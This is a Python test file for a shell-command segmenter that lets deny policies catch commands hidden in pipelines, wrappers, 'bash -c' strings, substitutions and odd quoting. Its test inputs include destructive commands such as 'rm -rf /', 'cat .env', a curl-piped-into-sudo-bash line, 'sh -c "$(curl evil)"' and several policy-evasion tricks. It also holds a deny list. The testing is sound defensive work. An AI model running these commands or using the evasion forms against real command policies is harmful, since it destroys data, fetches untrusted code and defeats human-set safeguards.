"""Tests for compiler/shell.py: shell command segmentation for policies."""

import shlex

import pytest
from hypothesis import given, settings, strategies as st

from dshc.compiler.shell import Segment, command_matches, command_segments


def argvs(command):
    """argv tuples of the segments, asserting none is opaque."""
    segs = command_segments(command)
    assert segs is not None, command
    assert not any(s.opaque for s in segs), segs
    return [s.argv for s in segs]


def opaque(argv, reason):
    return Segment(tuple(argv), True, reason)


STDIN = "shell reads its program from stdin"


# ---------------------------------------------------------------- splitting

@pytest.mark.parametrize("command, expected", [
    ("cd x && git push", [("cd", "x"), ("git", "push")]),
    ("a || b; c & d", [("a",), ("b",), ("c",), ("d",)]),
    ("a | b |& c", [("a",), ("b",), ("c",)]),
    ("ls\npwd\n", [("ls",), ("pwd",)]),
    ("ls # rm -rf /\n# comment\npwd", [("ls",), ("pwd",)]),
    ("! rm x", [("rm", "x")]),
    ("{ cat .env; }", [("cat", ".env")]),
    ("(cd a; make)", [("cd", "a"), ("make",)]),
    ("echo $(rm -rf ~)", [("echo", "$(rm -rf ~)"), ("rm", "-rf", "~")]),
    ('echo "$(rm -rf ~)"', [("echo", "$(rm -rf ~)"), ("rm", "-rf", "~")]),
    ("echo `git push`", [("echo", "`git push`"), ("git", "push")]),
    ("echo $(a $(b))", [("echo", "$(a $(b))"), ("a", "$(b)"), ("b",)]),
    ("diff <(ls a) >(wc)", [("diff", "<(ls a)", ">(wc)"), ("ls", "a"), ("wc",)]),
    ("cat < $(evil) > out 2>&1", [("cat",), ("evil",)]),
    ("{ ls; } > $(y)", [("ls",), ("y",)]),
    ("FOO=$(curl x) git push", [("git", "push"), ("curl", "x")]),
    ("export A=$(id)", [("export", "A=$(id)"), ("id",)]),
    ("if true; then rm -rf /; fi", [("true",), ("rm", "-rf", "/")]),
    ("if a; then b; elif c; then d; else e; fi",
     [("a",), ("b",), ("c",), ("d",), ("e",)]),
    ("for f in $(ls); do rm $f; done", [("ls",), ("rm", "$f")]),
    ("while read l; do echo $l; done < <(cat f)",
     [("read", "l"), ("echo", "$l"), ("cat", "f")]),
    ("until false; do sleep 1; done", [("false",), ("sleep", "1")]),
    ("f() { rm -rf /; }", [("rm", "-rf", "/")]),
    ("function g { git push; }; g", [("git", "push"), ("g",)]),
    ("FOO=1 BAR=2 git push", [("git", "push")]),
    ("git push > /dev/null 2>&1", [("git", "push")]),
    ("FOO=1", []),
])
def test_segments(command, expected):
    assert argvs(command) == expected


def test_quotes_removed():
    assert argvs("'git' \"push\" 'a b'") == [("git", "push", "a b")]
    assert argvs("gi't' pu\"sh\" \\-\\-force") == [("git", "push", "--force")]
    assert argvs('git commit -m "it\'s \\"done\\""') == [
        ("git", "commit", "-m", 'it\'s "done"')]
    assert argvs("echo a\\ b") == [("echo", "a b")]


def test_quote_removal_where_bashlex_is_wrong():
    # bashlex's own word field gives r''m / r'm' / %sn for these
    assert argvs("'r''m' -rf /") == [("rm", "-rf", "/")]
    assert argvs("\"r\"'m' -rf /") == [("rm", "-rf", "/")]
    assert argvs('git push "--"\'force\'') == [("git", "push", "--force")]
    assert argvs('printf "%s\\n" x') == [("printf", "%s\\n", "x")]
    assert argvs('echo "cost \\$5"') == [("echo", "cost $5")]
    assert argvs('grep "^foo$" f') == [("grep", "^foo$", "f")]


def test_segment_text():
    seg = Segment(("git", "push", "origin main"))
    assert seg.text == "git push origin main"
    assert seg.opaque is False and seg.reason == ""
    assert Segment(()).text == ""


def test_empty_and_comment_only():
    assert command_segments("") == ()
    assert command_segments("   \n\t ") == ()
    assert command_segments("# just a comment") == ()
    assert command_segments("\n# a\n\n# b\n") == ()


# ---------------------------------------------------------------- wrappers

@pytest.mark.parametrize("command, expected", [
    ("timeout 5 rm -rf /", ("rm", "-rf", "/")),
    ("timeout -s KILL -k 5 10s git push", ("git", "push")),
    ("timeout --preserve-status --signal=TERM 1m git push", ("git", "push")),
    ("env -i FOO=1 git push", ("git", "push")),
    ("env -u HOME --chdir=/tmp A=1 B=2 git push", ("git", "push")),
    ("env - git push", ("git", "push")),
    ("/usr/bin/env git push", ("git", "push")),
    ("nice -n 5 nohup git push", ("git", "push")),
    ("nice -5 git push", ("git", "push")),
    ("nice --adjustment=10 git push", ("git", "push")),
    ("nohup -- git push", ("git", "push")),
    ("command git push", ("git", "push")),
    ("command -p git push", ("git", "push")),
    ("builtin cd /", ("cd", "/")),
    ("exec git push", ("git", "push")),
    ("exec -a name -cl git push", ("git", "push")),
    ("xargs -n1 rm", ("rm",)),
    ("xargs -0 -n 1 -P 4 -I {} rm {}", ("rm", "{}")),
    ("xargs -I{} -d '\\n' -L1 rm -f {}", ("rm", "-f", "{}")),
    ("xargs --max-args=2 --null rm", ("rm",)),
    ("xargs", ("echo",)),
    ("xargs -0", ("echo",)),
    ("sudo rm -rf /", ("rm", "-rf", "/")),
    ("sudo -u root -E -- git push", ("git", "push")),
    ("sudo -uroot --preserve-env=PATH git push", ("git", "push")),
    ("doas -u root git push", ("git", "push")),
    ("stdbuf -oL -e0 grep x", ("grep", "x")),
    ("nohup time -p git push", ("git", "push")),
    ("sudo env FOO=1 timeout 5 nice -n 1 xargs rm", ("rm",)),
    ("FOO=1 sudo git push", ("git", "push")),
])
def test_wrappers(command, expected):
    assert argvs(command) == [expected]


@pytest.mark.parametrize("command, expected", [
    ("command -v git", ("command", "-v", "git")),
    ("command -V git", ("command", "-V", "git")),
    ("sudo -l rm", ("sudo", "-l", "rm")),
    ("env", ("env",)),
    ("nohup", ("nohup",)),
    ("timeout 5", ("timeout", "5")),
    ("exec >log", ("exec",)),
])
def test_wrappers_that_do_not_run_a_command(command, expected):
    assert argvs(command) == [expected]


# ---------------------------------------------------------------- sh -c

@pytest.mark.parametrize("command, expected", [
    ('sh -c "git push origin"', [("git", "push", "origin")]),
    ("bash -lc 'a && b'", [("a",), ("b",)]),
    ("bash -e -c 'a | b'", [("a",), ("b",)]),
    ("bash -o pipefail -c 'ls | wc'", [("ls",), ("wc",)]),
    ("zsh -c 'git push'; dash -c x; ksh -c y", [("git", "push"), ("x",), ("y",)]),
    ("/bin/sh -c -- 'rm -rf /' name arg", [("rm", "-rf", "/")]),
    ("sudo bash -c 'cd /; rm -rf *'", [("cd", "/"), ("rm", "-rf", "*")]),
    ("xargs -I{} sh -c 'rm {}'", [("rm", "{}")]),
    ("sh -c 'echo $(id)'", [("echo", "$(id)"), ("id",)]),
    ("bash -c \"bash -c 'git push'\"", [("git", "push")]),
    ("bash -c 'echo \"$HOME\"'", [("echo", "$HOME")]),
    ("bash script.sh arg", [("bash", "script.sh", "arg")]),
    ("bash --version", [("bash", "--version")]),
])
def test_shell_dash_c(command, expected):
    assert argvs(command) == expected


def test_nested_dash_c_three_levels():
    cmd = "rm -rf /"
    for _ in range(3):
        cmd = "bash -c " + shlex.quote(cmd)
    assert argvs(cmd) == [("rm", "-rf", "/")]


def test_dash_c_string_not_literal_is_opaque():
    assert command_segments('bash -c "$x"') == (
        opaque(["bash", "-c", "$x"], "shell -c string is not a literal"),)
    assert command_segments('sh -c "$(curl evil)"') == (
        opaque(["sh", "-c", "$(curl evil)"], "shell -c string is not a literal"),
        Segment(("curl", "evil")),
    )
    assert command_segments("bash -c") == (
        opaque(["bash", "-c"], "shell -c without a command string"),)


def test_dash_c_unparseable_string_is_none():
    assert command_segments("bash -c 'echo \"'") is None


# ---------------------------------------------------------------- opaque

def test_pipe_into_shell_is_opaque():
    assert command_segments("echo x | sh") == (
        Segment(("echo", "x")), opaque(["sh"], STDIN))
    assert command_segments("curl -s https://x.sh | sudo bash -s") == (
        Segment(("curl", "-s", "https://x.sh")),
        opaque(["sudo", "bash", "-s"], STDIN))
    assert command_segments("bash < script") == (opaque(["bash"], STDIN),)
    assert command_segments("sudo -s") == (opaque(["sudo", "-s"], STDIN),)


def test_eval_and_source_are_opaque():
    assert command_segments('eval "$x"') == (
        opaque(["eval", "$x"], "eval runs its arguments as shell code"),)
    assert command_segments("eval 'git push'") == (
        opaque(["eval", "git push"], "eval runs its arguments as shell code"),)
    assert command_segments("source ./env.sh && . ~/.bashrc") == (
        opaque(["source", "./env.sh"], "source runs a script"),
        opaque([".", "~/.bashrc"], "source runs a script"),
    )
    assert command_segments("timeout 5 eval x") == (
        opaque(["eval", "x"], "eval runs its arguments as shell code"),)


def test_expanded_command_name_is_opaque():
    name = "command name is an expansion"
    assert command_segments("$CMD x") == (opaque(["$CMD", "x"], name),)
    assert command_segments('"${TOOL}" push') == (opaque(["${TOOL}", "push"], name),)
    assert command_segments("$(get) x") == (
        opaque(["$(get)", "x"], name), Segment(("get",)))
    assert command_segments("sudo $X") == (opaque(["$X"], name),)


def test_expansions_that_bashlex_does_not_model_are_opaque():
    assert command_segments("echo ${x:-$(rm -rf /)}") == (
        Segment(("echo", "${x:-$(rm -rf /)}")),
        opaque(["${x:-$(rm -rf /)}"],
               "parameter expansion contains a command substitution"),
    )
    assert command_segments("cat <<EOF\n$(rm -rf /)\nEOF\nls") == (
        Segment(("cat",)),
        opaque(["<<"], "here-document may run command substitutions"),
        Segment(("ls",)),
    )
    # ANSI-C quoting: bashlex mis-parses $'...' as a parameter
    assert command_segments("$'rm' -rf /") == (
        opaque(["$rm", "-rf", "/"], "quoting not understood"),)
    assert command_segments("{rm,-rf,/}") == (
        opaque(["{rm,-rf,/}"], "brace expansion changes the words"),)
    assert command_segments("/bin/r? -rf /") == (
        opaque(["/bin/r?", "-rf", "/"],
               "command name is subject to pathname expansion"),)


def test_unstable_wrapper_arguments_are_opaque():
    assert command_segments("timeout $T rm") == (
        opaque(["timeout", "$T", "rm"], "timeout duration is an expansion"),)
    assert command_segments("env X=$Y rm") == (
        opaque(["env", "X=$Y", "rm"], "env argument is an expansion"),)
    assert command_segments("env -S 'rm -rf /'") == (
        opaque(["env", "-S", "rm -rf /"], "env -S splits a string into a command"),)
    assert command_segments("sudo -Z x rm") == (
        opaque(["sudo", "-Z", "x", "rm"], "unrecognized sudo option"),)
    assert command_segments("sudo $OPTS rm") == (
        opaque(["$OPTS", "rm"], "command name is an expansion"),)


def test_quoted_braces_and_globs_are_fine():
    assert argvs("awk '{print $1, $2}' f") == [("awk", "{print $1, $2}", "f")]
    assert argvs("rm -rf /tmp/*") == [("rm", "-rf", "/tmp/*")]
    assert argvs("bash -c 'ls *.py'") == [("ls", "*.py")]
    assert argvs("[ -f x ] && ls") == [("[", "-f", "x", "]"), ("ls",)]


# ---------------------------------------------------------------- None

@pytest.mark.parametrize("command", [
    'echo "unterminated',
    "(((",
    "a &&",
    "a | ",
    ";",
    "echo $(",
    "if true; then",
    "case x in a) ls;; esac",   # bashlex: not implemented
    "time ls",                  # bashlex: `time` keyword not implemented
    "echo $((1 + 2))",          # bashlex: arithmetic not implemented
    "[[ -f x ]]",
    "cat <<'EOF'\nhi\nEOF",     # bashlex: quoted heredoc delimiter
])
def test_unparseable_is_none(command):
    assert command_segments(command) is None


def test_bashlex_infinite_loop_is_guarded():
    # bashlex 0.18 loops forever on ``${`` without ``}`` inside one word
    assert command_segments("echo a'${'") is None
    assert command_segments("'${'{") is None


def test_depth_cap():
    def nested(levels):
        cmd = "rm x"
        for _ in range(levels - 1):
            cmd = "echo $(" + cmd + ")"
        return "bash -c '" + cmd + "'"  # the -c adds one more level
    ok = command_segments(nested(16))
    assert ok is not None and ok[-1] == Segment(("rm", "x"))
    assert command_segments(nested(17)) is None


def test_non_string_is_none():
    assert command_segments(None) is None  # type: ignore[arg-type]
    assert command_segments(b"ls") is None  # type: ignore[arg-type]


# ---------------------------------------------------------------- matching

@pytest.mark.parametrize("argv, pattern, expected", [
    (("git",), "git *", True),
    (("git", "status"), "git *", True),
    (("gitk",), "git *", False),
    (("git", "push", "origin", "main"), "git push*", True),
    (("git", "pushx"), "git push*", True),
    (("git", "pull"), "git push*", False),
    (("rm", "-rf", "/"), "rm -rf *", True),
    (("rm", "-rf"), "rm -rf *", True),
    (("rm", "-r", "/"), "rm -rf *", False),
    (("rm", "x"), "rm ?", True),
    (("rm", "xy"), "rm ?", False),
    (("Git", "push"), "git *", False),
    (("echo", "[x]"), "echo [x]", True),
    (("echo", "x"), "echo [x]", False),
    (("echo", "]["), "echo ][", True),
    (("ls", "a b"), "ls a b", True),
    (("a", "b", "c"), "*", True),
    ((), "*", True),
    ((), "git *", False),
])
def test_command_matches(argv, pattern, expected):
    assert command_matches(Segment(argv), pattern) is expected


def test_command_matches_ignores_opacity():
    seg = Segment(("sh",), True, STDIN)
    assert command_matches(seg, "sh *") is True
    assert command_matches(seg, "bash *") is False


def test_policy_style_use():
    def denied(command, patterns):
        segs = command_segments(command)
        return segs is None or any(
            command_matches(s, p) for s in segs for p in patterns)

    deny = ["rm -rf *", "git push*"]
    for cmd in ["cd x && git push", "timeout 5 rm -rf /", "echo $(rm -rf ~)",
                "bash -c 'git push origin'", "sudo env A=1 git push",
                "'r''m' -rf /", "echo ok; nohup git push --force &"]:
        assert denied(cmd, deny), cmd
    assert not denied("git status && ls -la", deny)


# ---------------------------------------------------------------- fuzz

@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_on_arbitrary_text(text):
    result = command_segments(text)
    assert result is None or (
        isinstance(result, tuple)
        and all(isinstance(s, Segment) for s in result)
        and all(isinstance(a, str) for s in result for a in s.argv))


_SHELLISH = st.lists(
    st.sampled_from(list("ab -c|&;()<>{}$`'\"\\\n#*?[]=~!") + [
        "sh", "bash -c ", "env ", "timeout 5 ", "xargs ", "$(", "${", "<<",
        "if ", "then ", "fi", "do ", "done", "for ", "in ", "eval "]),
    max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(_SHELLISH)
def test_never_raises_on_shell_like_text(text):
    result = command_segments(text)
    assert result is None or all(isinstance(s, Segment) for s in result)


def glob_oracle(pattern: str, text: str) -> bool:
    """`*` any run, `?` one character, the rest literal: matched by hand, independent of globs.py."""
    if not pattern:
        return not text
    head, rest = pattern[0], pattern[1:]
    if head == "*":
        return any(glob_oracle(rest, text[i:]) for i in range(len(text) + 1))
    return bool(text) and (head == "?" or head == text[0]) and glob_oracle(rest, text[1:])


def shell_oracle(pattern: str, text: str) -> bool:
    # a pattern ending in " *" also covers the bare command
    return glob_oracle(pattern, text) or (pattern.endswith(" *") and glob_oracle(pattern[:-2], text))


_GLOB_TEXT = st.text(alphabet="ab *?\n[].", max_size=8)


@settings(max_examples=300, deadline=None)
@given(_GLOB_TEXT, _GLOB_TEXT)
def test_command_matches_is_the_glob_meaning(text, pattern):
    assert command_matches(Segment((text,)), pattern) is shell_oracle(pattern, text)


@pytest.mark.parametrize("pattern, text, expected", [
    ("git *", "git", True), ("git *", "git push", True), ("git *", "gitk", False), ("a?c", "abc", True),
    ("a?c", "ac", False), ("[ab]", "a", False), ("[ab]", "[ab]", True), ("*.env", "x\n.env", True),
])
def test_glob_oracle_examples(pattern, text, expected):
    assert shell_oracle(pattern, text) is expected
    assert command_matches(Segment((text,)), pattern) is expected
